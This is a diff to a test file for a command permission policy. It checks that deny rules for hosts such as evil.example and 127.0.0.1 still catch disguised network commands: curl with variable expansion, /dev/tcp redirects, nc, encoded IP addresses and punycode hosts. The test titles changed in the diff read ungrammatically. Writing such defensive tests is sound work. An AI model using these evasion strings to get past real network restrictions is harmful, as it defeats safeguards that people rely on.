@@ -3,7 +3,7 @@ import { decide } from '../../../src/core/policy/decide.js';
 import { lines } from '../lines.js';
 import { line, request, rule, run } from './requests.js';
 
-/** With everything else let through, what a deny rule for a host makes of a command. */
+/** With everything else allowed, what a deny rule for a host makes of a command. */
 const denied = (host: string, text: string) =>
 	decide(run(text), { mode: 'bypassPermissions', rules: [rule(`Fetch(${host})`, 'deny')] }).decision;
 
@@ -50,9 +50,7 @@ test.each(lines`
 	docker pull $H/x ¦ cargo install --git https://$H/x ¦ C=curl; $C http://x.test
 	curl --variable h=evil --expand-url 'http://{{h}}.example' ¦ curl --expand-url '{{h}}' --var h@list
 	curl --url @list ¦ curl --url=@list ¦ ssh -F config good.example
-`)('deny Fetch(evil.example) does not let through: %s', (text) =>
-	expect(denied('evil.example', text)).not.toBe('allow'),
-);
+`)('deny Fetch(evil.example) does not allowed: %s', (text) => expect(denied('evil.example', text)).not.toBe('allow'));
 
 test.each(lines`
 	cat < /dev/tcp/127.0.0.1/80 ¦ cat < /dev/tcp/127.1/80 ¦ cat < /dev/tcp/2130706433/80
@@ -63,13 +61,13 @@ test.each(lines`
 	wget http://127.0.0.[1-3]:8080/x ¦ nc 127.0.0.[1-3] 80 ¦ curl -x 127.0.0.[1-3] http://x.test
 	cat < /dev/tcp/127.0.0.[1-3]/80 ¦ cat < /dev/tcp/１２７.0.0.1/80
 	cat < /dev/tcp/127。0。0。1/80X curl "http://127.0.0.[1-3]/"
-`)('deny Fetch(127.0.0.1) does not let through: %s', (text) => expect(denied('127.0.0.1', text)).not.toBe('allow'));
+`)('deny Fetch(127.0.0.1) does not allowed: %s', (text) => expect(denied('127.0.0.1', text)).not.toBe('allow'));
 
 test.each([
 	'git clone https://bücher.example/x',
 	'git fetch https://b%C3%BCcher.example',
 	'git push git@bücher.example:x',
-])('deny Fetch(xn--bcher-kva.example) does not let through: %s', (text) =>
+])('deny Fetch(xn--bcher-kva.example) does not allowed: %s', (text) =>
 	expect(denied('xn--bcher-kva.example', text)).not.toBe('allow'),
 );
 
@@ -79,7 +77,7 @@ test.each(lines`
 	curl -H 'Accept: {"a":[1]}' -d '{"a": 1}' http://good.example/api ¦ curl "http://[::1]:3000/"
 	pip install requests ¦ npm run build -- "$x" ¦ git commit -m "$message"
 	curl -d @body.json http://good.example
-`)('deny Fetch(evil.example) lets through: %s', (text) => expect(denied('evil.example', text)).toBe('allow'));
+`)('deny Fetch(evil.example) allows: %s', (text) => expect(denied('evil.example', text)).toBe('allow'));
 
 test('A proxy that the request sets counts as well', () => {
 	const rules = [rule('Fetch(evil.example)', 'deny')];
